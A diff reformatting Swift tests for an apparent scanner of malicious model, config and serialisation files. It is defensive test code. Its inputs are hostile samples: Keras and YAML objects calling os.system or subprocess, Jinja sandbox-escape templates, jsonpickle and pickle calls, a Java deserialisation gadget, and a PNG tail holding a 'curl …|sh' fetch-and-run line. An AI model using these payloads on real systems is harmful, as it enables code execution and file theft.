@@ -13,24 +13,49 @@ import Testing
 
     @Test func kerasConfigurationsAreJudgedByWhatTheyName() throws {
         func config(_ layer: String) throws -> [String] {
-            try scan(ZipMaker.of([("config.json", Array("{\"class_name\":\"Sequential\",\"module\":\"keras\",\"config\":{\"layers\":[\(layer)]}}".utf8)), ("metadata.json", Array("{}".utf8))]), name: "m.keras").told
+            try scan(
+                ZipMaker.of([
+                    (
+                        "config.json",
+                        Array("{\"class_name\":\"Sequential\",\"module\":\"keras\",\"config\":{\"layers\":[\(layer)]}}".utf8)
+                    ), ("metadata.json", Array("{}".utf8)),
+                ]), name: "m.keras"
+            ).told
         }
         #expect(try config(#"{"class_name":"Dense","module":"keras.layers","config":{"units":2,"activation":"relu"}}"#).isEmpty)
         #expect(try config(#"{"class_name":"function","module":"os","config":"system"}"#) == ["critical keras-unknown-object"])
         #expect(try config(#"{"class_name":"Popen","module":"subprocess","config":{}}"#) == ["critical keras-unknown-object"])
-        #expect(try config(#"{"class_name":"function","module":"keras.utils","config":"get_file"}"#) == ["critical keras-unknown-object"])
+        #expect(
+            try config(#"{"class_name":"function","module":"keras.utils","config":"get_file"}"#) == [
+                "critical keras-unknown-object"
+            ])
         #expect(try config(#"{"class_name":"Squeeze","module":"acme.layers","config":{}}"#) == ["medium keras-unknown-object"])
-        #expect(try config(#"{"class_name":"StringLookup","module":"keras.layers","config":{"vocabulary":"/etc/passwd"}}"#) == ["high keras-loads-file"])
-        #expect(try config(#"{"class_name":"Lambda","module":"keras.layers","config":{"function":{"class_name":"__lambda__","config":{"code":"\#(Self.lambda)"}}}}"#) == ["high keras-lambda"])
-        #expect(try config(#"{"class_name":"Lambda","module":"keras.layers","config":{"function":["\#(Self.lambda)",null,null],"function_type":"lambda"}}"#) == ["high keras-lambda"])
-        #expect(try config(#"{"class_name":"Bidirectional","module":"keras.layers","config":{"layer":{"class_name":"TFSMLayer","module":"keras.layers","config":{"filepath":"x"}}}}"#) == ["high keras-loads-file"])
+        #expect(
+            try config(#"{"class_name":"StringLookup","module":"keras.layers","config":{"vocabulary":"/etc/passwd"}}"#) == [
+                "high keras-loads-file"
+            ])
+        #expect(
+            try config(
+                #"{"class_name":"Lambda","module":"keras.layers","config":{"function":{"class_name":"__lambda__","config":{"code":"\#(Self.lambda)"}}}}"#
+            ) == ["high keras-lambda"])
+        #expect(
+            try config(
+                #"{"class_name":"Lambda","module":"keras.layers","config":{"function":["\#(Self.lambda)",null,null],"function_type":"lambda"}}"#
+            ) == ["high keras-lambda"])
+        #expect(
+            try config(
+                #"{"class_name":"Bidirectional","module":"keras.layers","config":{"layer":{"class_name":"TFSMLayer","module":"keras.layers","config":{"filepath":"x"}}}}"#
+            ) == ["high keras-loads-file"])
     }
 
     @Test func yamlTagsAreJudgedByWhatTheyMake() throws {
         func told(_ yaml: String) throws -> [String] { try scan(yaml, name: "config.yaml").told }
         #expect(try told("a: 1\nb: [x, !!python/tuple [1, 2]]\n").isEmpty)
         #expect(try told("a: !!python/object/apply:os.system ['echo']\n") == ["critical yaml-object"])
-        #expect(try told("%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:subprocess.run [[x]]\n") == ["critical yaml-object"])
+        #expect(
+            try told("%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:subprocess.run [[x]]\n") == [
+                "critical yaml-object"
+            ])
         #expect(try told("a: 1\n---\nb: !!python/object/new:os.system [x]\n") == ["critical yaml-object"])
         #expect(try told("a: !!python/name:eval\n") == ["critical yaml-object"])
         #expect(try told("# !!python/object/apply:os.system\na: 'text !!python/object/apply:os.system'\n").isEmpty)
@@ -46,19 +71,30 @@ import Testing
                 "{% set ns = namespace(found=false) %}{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\\n' + m.content | trim }}{% if loop.last %}{{ raise_exception('no') }}{% endif %}{% endfor %}"
             ).isEmpty)
         for template in [
-            "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ ''['__class__'].__mro__ }}", "{{ ()|attr('__cla' ~ 'ss__') }}", "{{ x|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
-            "{% include '/etc/passwd' %}", "{{ '{0.__class__}'.format(x) }}", "{{ ''[['__','class','__']|join] }}", "{{ ''['__ssalc__'[::-1]] }}", "{% set a = messages.__class__ %}",
+            "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ ''['__class__'].__mro__ }}",
+            "{{ ()|attr('__cla' ~ 'ss__') }}", "{{ x|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
+            "{% include '/etc/passwd' %}", "{{ '{0.__class__}'.format(x) }}", "{{ ''[['__','class','__']|join] }}",
+            "{{ ''['__ssalc__'[::-1]] }}", "{% set a = messages.__class__ %}",
         ] {
             #expect(try told(template).first?.hasSuffix("template-escape") == true, "\(template)")
         }
         #expect(try told("{# {{ x.__class__ }} #}{% raw %}{{ x.__class__ }}{% endraw %}plain __class__ text").isEmpty)
-        #expect(try scan(#"{"chat_template": "{{ cycler.__init__ }}"}"#, name: "tokenizer_config.json").told == ["critical template-escape"])
+        #expect(
+            try scan(#"{"chat_template": "{{ cycler.__init__ }}"}"#, name: "tokenizer_config.json").told == [
+                "critical template-escape"
+            ])
     }
 
     @Test func configurationsThatBringCodeAreTold() throws {
-        #expect(try scan(#"{"auto_map": {"AutoModel": "modeling_x.XModel"}}"#, name: "config.json").told == ["info config-custom-code"])
-        #expect(try scan(#"{"auto_map": {"AutoModel": "other/repo--modeling_x.XModel"}}"#, name: "config.json").told.first == "medium config-remote-code")
-        #expect(try scan(#"{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["x"]}]}"#, name: "a.json").worst == .critical)
+        #expect(
+            try scan(#"{"auto_map": {"AutoModel": "modeling_x.XModel"}}"#, name: "config.json").told == [
+                "info config-custom-code"
+            ])
+        #expect(
+            try scan(#"{"auto_map": {"AutoModel": "other/repo--modeling_x.XModel"}}"#, name: "config.json").told.first
+                == "medium config-remote-code")
+        #expect(
+            try scan(#"{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["x"]}]}"#, name: "a.json").worst == .critical)
         #expect(try scan("{\"broken\"", name: "config.json").errors.count == 1)
     }
 
@@ -80,11 +116,15 @@ import Testing
     }
 
     @Test func whatHidesBehindAPictureIsTold() throws {
-        let png: [UInt8] = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a] + [0, 0, 0, 0] + Array("IEND".utf8) + [0xae, 0x42, 0x60, 0x82]
+        let png: [UInt8] =
+            [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a] + [0, 0, 0, 0] + Array("IEND".utf8) + [0xae, 0x42, 0x60, 0x82]
         #expect(try scan(png, name: "a.png").told.isEmpty)
         let hidden = try scan(png + Array("cos\nsystem\n(S'x'\ntR.".utf8), name: "a.png")
         #expect(hidden.told == ["critical pickle-dangerous-call", "high hidden-tail"])
-        #expect(try scan(png + Array("import os; os.system('curl http://x.example.invalid|sh')".utf8), name: "a.png").told == ["high hidden-tail"])
+        #expect(
+            try scan(png + Array("import os; os.system('curl http://x.example.invalid|sh')".utf8), name: "a.png").told == [
+                "high hidden-tail"
+            ])
         #expect(try scan(png + [0, 0, 0, 0], name: "a.png").told.isEmpty)
     }
 
@@ -93,8 +133,12 @@ import Testing
         #expect(report.told == ["critical pickle-dangerous-call", "medium name-disguise"])
         #expect(try scan([0x7f] + Array("ELF".utf8) + [UInt8](repeating: 0, count: 60), name: "model.bin").worst == .medium)
         #expect(try scan([0x7f] + Array("ELF".utf8) + [UInt8](repeating: 0, count: 60), name: "pytorch_model.bin").worst == .high)
-        #expect(try scan([0x11, 0x9e, 0xfe, 0x33, 0xca] + [UInt8](repeating: 0x91, count: 99), name: "model.pt").errors.count == 1)
-        #expect(try scan([0x11, 0x9e, 0xfe, 0x33, 0xca] + [UInt8](repeating: 0x91, count: 99), name: "x.dat").told == ["low unknown-content"])
+        #expect(
+            try scan([0x11, 0x9e, 0xfe, 0x33, 0xca] + [UInt8](repeating: 0x91, count: 99), name: "model.pt").errors.count == 1)
+        #expect(
+            try scan([0x11, 0x9e, 0xfe, 0x33, 0xca] + [UInt8](repeating: 0x91, count: 99), name: "x.dat").told == [
+                "low unknown-content"
+            ])
     }
 
     @Test func objectArraysArePickles() throws {
@@ -126,7 +170,11 @@ import Testing
     }
 
     @Test func otherPeoplesObjectsAreTold() throws {
-        #expect(try scan([0xac, 0xed, 0, 5, 0x73, 0x72] + Array("org.apache.commons.collections.functors.InvokerTransformer".utf8), name: "a.ser").told == ["high foreign-serialisation"])
+        #expect(
+            try scan(
+                [0xac, 0xed, 0, 5, 0x73, 0x72] + Array("org.apache.commons.collections.functors.InvokerTransformer".utf8),
+                name: "a.ser"
+            ).told == ["high foreign-serialisation"])
         #expect(try scan(Array("RDX3\nX\n".utf8) + [0, 0, 0, 3], name: "a.rds").told == ["medium foreign-serialisation"])
     }
 }
